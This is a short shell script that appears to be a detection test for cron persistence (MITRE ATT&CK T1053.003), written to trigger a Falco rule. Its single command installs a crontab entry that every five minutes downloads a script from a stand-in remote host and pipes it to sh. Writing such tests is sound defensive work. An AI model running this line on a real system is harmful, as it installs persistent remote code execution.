#!/bin/sh
# title: Cron job installed with crontab
# technique: T1053.003 Scheduled Task/Job: Cron
# source: https://attack.mitre.org/techniques/T1053/003/ ; Falco "Schedule Cron Jobs"
# expect: Cron or systemd persistence written
mkdir -p /var/spool/cron/crontabs
echo '*/5 * * * * wget -q -O- http://198.51.100.1:8000/s | sh' | crontab -
